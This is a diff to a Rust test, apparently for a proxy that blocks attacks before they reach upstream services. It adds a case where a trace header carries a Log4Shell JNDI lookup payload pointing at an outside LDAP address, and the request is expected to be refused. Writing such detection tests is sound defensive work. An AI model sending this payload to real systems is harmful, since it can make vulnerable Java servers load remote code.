@@ -155,6 +155,22 @@ async fn attacks_everywhere_are_refused_before_any_upstream() {
             "log4shell",
             "header:x-api-version",
         ),
+        // `tracestate` goes upstream as sent (a valid trace continues): inspected too.
+        (
+            "GET",
+            "/items".into(),
+            vec![
+                (
+                    "traceparent",
+                    "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+                ),
+                ("tracestate", "v=${jndi:ldap://198.51.100.7/a}"),
+            ],
+            String::new(),
+            "jndi",
+            "log4shell",
+            "header:tracestate",
+        ),
         (
             "GET",
             "/items".into(),
